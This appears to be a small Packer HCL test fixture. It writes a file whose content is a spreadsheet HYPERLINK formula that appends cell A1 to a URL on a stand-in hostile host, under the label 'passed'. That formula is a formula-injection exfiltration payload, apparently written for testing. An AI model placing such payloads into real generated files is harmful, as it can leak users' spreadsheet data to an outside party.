variable "name" {
  type    = string
  default = "nobody"
}

source "file" "message" {
  content = "=HYPERLINK(\"https://packerlab-hostile.invalid/?\"&A1,\"passed\")"
  target  = "out/message.txt"
}

build {
  sources = ["source.file.message"]
}
